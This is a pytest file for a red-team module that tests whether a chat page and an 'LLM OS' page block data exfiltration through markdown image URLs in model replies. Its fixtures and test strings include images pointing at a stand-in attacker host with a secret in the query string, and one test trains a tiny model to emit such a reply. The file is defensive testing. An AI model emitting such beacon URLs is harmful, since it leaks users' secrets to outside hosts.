"""Exfiltration through a markdown image URL (llmos/redteam/exfil.py), measured in Debian's chromium.

- The payload battery on the chat page and on the LLM OS page sends nothing to the attacker's loopback
  host, while the naive control (marked's HTML as innerHTML) sends exactly the payloads that a browser
  fetches without a click: proof that the host sees what a page lets out. The one payload the chat
  page's renderer must let through (an allowed origin that redirects) is stopped by its CSP.
- An image from the allowed origin still loads (the positive control).
- End to end: `llmos serve` on a tiny model that learned a reply carrying the exfiltration image; the
  chat page streams it in and shows it, the attacker's host sees nothing, the allowed image loads.
"""
from __future__ import annotations

import re

import pytest

from conftest import require, unavailable
from serving import memorizing_model, running_server

from llmos.redteam.exfil import ALLOWED_HOST, ATTACKER_HOST, CHROMEDRIVER, CHROMIUM, SECRET, ExfilLab, aimed_at, battery

SETTLE_S = 0.05  # between replies on the defended pages: their totals are what is asserted, and each
# page ends with a settle of a second, its tab left open so that nothing it asked for is cancelled


@pytest.fixture(scope="module")
def lab():
    require("selenium")
    if not (CHROMIUM.is_file() and CHROMEDRIVER.is_file()):
        unavailable(f"{CHROMIUM} or {CHROMEDRIVER} is missing: install the Debian packages chromium and "
                    "chromium-driver (`make system-deps` as root)")
    with ExfilLab() as lab:
        yield lab


def leaked(results, payloads) -> set[str]:
    """The payloads whose URL (its path names the payload) reached the attacker, from any reply's window,
    and those whose reply opened a connection that carried no request (a preconnect)."""
    targets = [hit.target for r in results for hit in r.hits]
    named = {p.name for p in payloads if any(re.search(rf"/p/{re.escape(p.name)}([./?]|$)", t) for t in targets)}
    return named | {p.name for p, r in zip(payloads, results) if any(not hit.target for hit in r.hits)}


def test_the_renderers_stop_every_payload_that_a_naive_renderer_lets_out(lab):
    payloads = battery()
    texts = [p.text for p in payloads]
    assert all(aimed_at(text, secret=SECRET)["url"] for text in texts)

    naive = lab.render(texts, "naive", settle_s=0.2)
    loads = {p.name for p in payloads if p.loads}
    assert leaked(naive, payloads) == loads, "the control's requests differ from what the payloads should load"
    assert len(loads) >= 45, "the battery lost its payloads"
    assert any(h.scheme == "https" and "/p/md-https.png" in h.target for r in naive for h in r.hits)
    assert any(h.host == f"{SECRET}.{ATTACKER_HOST}" for r in naive for h in r.hits), "subdomain-style: no host"

    chat = lab.render(texts, "chat", settle_s=SETTLE_S)
    assert [hit.url() for r in chat for hit in r.hits] == [], "the chat page let a request out"
    for p, r in zip(payloads, chat):
        assert r.shown.strip(), f"{p.name}: the chat page showed nothing"
        if p.name.startswith("md-") and p.loads and p.name != "md-allowed-redirect":
            assert "[image blocked: " in r.shown, f"{p.name}: no blocked-image note in {r.shown!r}"
        if p.name.startswith("html-"):
            assert "<" in r.shown, f"{p.name}: the raw HTML is not shown as text: {r.shown!r}"
    # The allow-list passes the allowed origin's redirect; the browser asks it, and the CSP stops the hop.
    redirect = chat[[p.name for p in payloads].index("md-allowed-redirect")]
    assert [h.target.split("?")[0] for h in redirect.allowed_hits] == ["/redirect"]

    os_page = lab.render(texts, "os", settle_s=SETTLE_S)
    assert [hit.url() for r in os_page for hit in r.hits] == [], "the LLM OS page let a request out"
    assert [r.shown for r in os_page] == [t.strip() for t in texts], "the OS page does not show replies as text"
    assert not [h for r in os_page for h in r.allowed_hits]


def test_allowed_images_still_load(lab):
    allowed = f"http://{ALLOWED_HOST}/ok.png"
    before = lab.allowed.count()
    [shown] = lab.render([f"A chart: ![ok]({allowed}) and ![no](http://{ATTACKER_HOST}/p/no.png?d={SECRET})"], "chat")
    assert not shown.hits
    assert [h.target for h in lab.allowed.since(before)] == ["/ok.png"]
    assert lab.images_loaded() == [allowed]
    assert f"[image blocked: http://{ATTACKER_HOST}/p/no.png?d={SECRET}]" in shown.shown


QUESTION = "Summarise the ferry notice."
ANSWER = (f"The ferry runs every forty minutes. ![status](http://{ATTACKER_HOST}/log?code={SECRET}) "
          f"![logo](http://{ALLOWED_HOST}/logo.png)")


@pytest.mark.usefixtures("one_torch_thread")
def test_a_live_server_reply_carrying_the_image_reaches_nobody(lab, tmp_path, tokenizer_path):
    from selenium.webdriver.support.ui import WebDriverWait

    from llmos.params import save_params
    from llmos.tokenizer import Tokenizer
    tok = Tokenizer.load(tokenizer_path)
    conversation = [{"role": "user", "content": QUESTION}, {"role": "assistant", "content": ANSWER}]
    model_path = save_params(tmp_path / "leaky.llmos", memorizing_model(tok, [conversation]), tok,
                             provenance={"name": "leaky"})
    driver = lab.driver
    attacker_before, allowed_before = lab.attacker.count(), lab.allowed.count()
    with running_server("--model", f"leaky={model_path}", "--image-origin", f"http://{ALLOWED_HOST}",
                        log=tmp_path / "serve.log") as base_url:
        driver.switch_to.new_window("tab")
        driver.get(base_url + "/")
        wait = WebDriverWait(driver, 120, poll_frequency=0.05)
        wait.until(lambda d: d.execute_script(
            "return document.body.dataset.config === 'loaded' && document.getElementById('model').value === 'leaky'"))
        for field, value in (("temperature", "0"), ("max-tokens", "120")):
            driver.find_element("id", field).clear()
            driver.find_element("id", field).send_keys(value)
        driver.find_element("id", "input").send_keys(QUESTION)
        driver.find_element("id", "send").click()
        wait.until(lambda d: d.find_elements("css selector", "#messages .message.assistant[data-done='true']"))
        error = driver.execute_script("const e = document.getElementById('error'); return e.hidden ? '' : e.textContent")
        assert not error, error
        shown = driver.find_element("css selector", "#messages .message.assistant .content").text
        wait.until(lambda d: lab.images_loaded())  # the allowed image has come: the attacker's would have too
    assert shown.startswith("The ferry runs every forty minutes."), shown
    assert f"[image blocked: http://{ATTACKER_HOST}/log?code={SECRET}]" in shown
    assert lab.images_loaded() == [f"http://{ALLOWED_HOST}/logo.png"]
    assert [h.target for h in lab.allowed.since(allowed_before)] == ["/logo.png"]
    assert lab.attacker.since(attacker_before) == [], "the attacker's host saw the live reply"


def test_aimed_at_reads_every_spelling_of_the_attacker_host():
    for p in battery():
        seen = aimed_at(p.text, secret=SECRET)
        assert seen["url"] and seen["secret"], p.name
        assert seen["image"] == (not p.name.startswith("link-")), p.name
    assert aimed_at("The ferry runs hourly. ![map](http://images.example/map.png)") == \
        {"url": False, "image": False, "secret": False}
    assert aimed_at(f"Mail me at someone@not{ATTACKER_HOST}.org") == {"url": False, "image": False, "secret": False}
